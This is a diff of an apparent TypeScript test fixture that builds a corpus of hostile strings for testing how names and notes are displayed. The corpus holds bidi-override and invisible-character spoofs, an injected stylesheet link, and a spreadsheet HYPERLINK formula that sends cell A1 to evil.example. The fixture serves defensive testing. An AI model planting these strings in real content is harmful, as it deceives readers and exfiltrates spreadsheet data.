@@ -147,17 +147,22 @@ x;}*{display:none
 <link rel=stylesheet href=https://evil.example/x.css>
 `);
 
+/** What turns letters around, hides or ends a line is not kept of names and notes: as written, and as shown. */
+const misleading: readonly (readonly [string, string])[] = [
+  ['\u202e<tpircs/>1=denwp__<tpircs>', '<tpircs/>1=denwp__<tpircs>'], // from right to left
+  ['Ines\u202emoc.live\u202c Almeida', 'Inesmoc.live Almeida'],
+  ['\u2066left\u2069 \u2067right\u2069 and on', 'left right and on'],
+  ['In\u200bes\u200d Al\u2060meida', 'Ines\u200d Almeida'], // what cannot be seen
+  ['\u{e0001}\u{e0041}tagged', '\u{e0041}tagged'],
+  ['a\u2028__pwned=1\u2029b', 'a __pwned=1 b'], // line ends of JavaScript
+];
+
 /** Nothing runs in them here; they mislead, or run where the text is taken along. */
 const letters = [
-  '\u202e<tpircs/>1=denwp__<tpircs>', // from right to left
-  'Ines\u202emoc.live\u202c Almeida',
-  '\u2066left\u2069 \u2067right\u2069 and on',
-  'In\u200bes\u200d Al\u2060meida', // what cannot be seen
-  '\u{e0001}\u{e0041}tagged',
+  ...misleading.map(([written]) => written),
   'e\u0301\u0301\u0301\u0301\u0301\u0301 stacked',
   'مرحبا <b>بالعالم</b> 12.50',
   '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 <i>flags</i>',
-  'a\u2028__pwned=1\u2029b', // line ends of JavaScript
   'x'.repeat(100),
   'W'.repeat(99),
   '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
@@ -183,6 +188,11 @@ export const hostileTexts: readonly string[] = [
   ...letters,
   polyglot,
 ];
+
+const shown = new Map(misleading);
+
+/** How a name or a note of the corpus stands where it is shown. */
+export const shownText = (written: string): string => shown.get(written) ?? written;
 
 /** The corpus, turned so that `start` is its first, as far as a field takes it: each field begins elsewhere. */
 export const hostileTextsFrom = (start: number, longest: number): string[] =>
